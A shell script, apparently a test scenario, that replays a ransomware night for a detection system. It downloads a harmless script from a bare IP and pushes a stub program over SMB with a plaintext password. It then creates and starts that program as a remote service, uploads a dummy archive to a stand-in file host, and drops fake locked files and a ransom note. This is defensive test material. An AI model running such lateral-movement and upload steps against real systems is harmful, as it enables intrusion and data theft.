# what: a night of ransomware's makings: a script from a bare address, a program put on the server and started, the share's files sent out and locked
# real: curl with PowerShell's and rclone's user agents, nginx, Samba's smbclient and "net rpc service" against Samba; nothing is ever started, what is "locked" are random bytes
# packages: nginx-light samba samba-common-bin smbclient
# snap: 2000
CLOCK='2026-01-15 02:40'
outside 194.26.135.12 vps.example; web net 194.26.135.12 vps.example
outside 89.44.169.135 upload.filehost-mega.example; web net 89.44.169.135 upload.filehost-mega.example
printf '$n = "lab"\r\nfunction Hello { param($who) Write-Output "hello $who" }\r\nHello $n\r\n# IEX and other words are not here: this file does nothing\r\n' >$W/www/a.ps1
host EIGYO-NOTE windows; host FILESV server 10
for n in EIGYO-NOTE gw net; do on $n ethtool -K eth0 tx on tso on gso on gro on >/dev/null 2>&1; on $n ethtool -K wan tx on tso on gso on gro on >/dev/null 2>&1; on $n sysctl -qw net.ipv4.tcp_timestamps=0; done
SPOOLSS=no smb_server FILESV 'admin users = office
		  svcctl list = lab' "[ADMIN\$]
		  path = $W/share
		  read only = no
		  force user = root"
get EIGYO-NOTE -A 'Mozilla/5.0 (Windows NT; Windows NT 10.0; ja-JP) WindowsPowerShell/5.1.19041.4894' http://194.26.135.12/a.ps1
pause 1
"$T/stub" 3000 >$W/svc.exe
smb() { on EIGYO-NOTE smbclient "//${ip_of[FILESV]}/ADMIN\$" 'Asagao-2026' -U office -c "$1" >>$W/log/lateral 2>&1; }
smb "put $W/svc.exe kxqzt.exe"
for step in 'list' 'create kxqzt kxqzt C:\Windows\kxqzt.exe' 'start kxqzt' 'status kxqzt'; do
	on EIGYO-NOTE timeout 30 net rpc service $step -S "${ip_of[FILESV]}" -U 'office%Asagao-2026' -s $W/smb.conf >>$W/log/lateral 2>&1
done
head -c 600000000 /dev/zero >$W/all.zip
get EIGYO-NOTE -A 'rclone/v1.68.1' -m 120 -T $W/all.zip https://upload.filehost-mega.example/all.zip || fail "the upload failed"
head -c 30000 /dev/urandom >$W/locked
for n in uriage kokyaku kyuyo mitsumori seikyu zaiko; do smb "put $W/locked $n.xlsx.locked"; done
printf 'Files are locked. This note is part of a recording made for tests.\r\n' >$W/note
smb "put $W/note README_RESTORE.txt"
STRETCH=(--keep 6000 --thin 24 --merge)
# data_leaving belongs to the alert of the script: one story of one device
alert lateral_movement act_now EIGYO-NOTE
alert script_download act_now EIGYO-NOTE
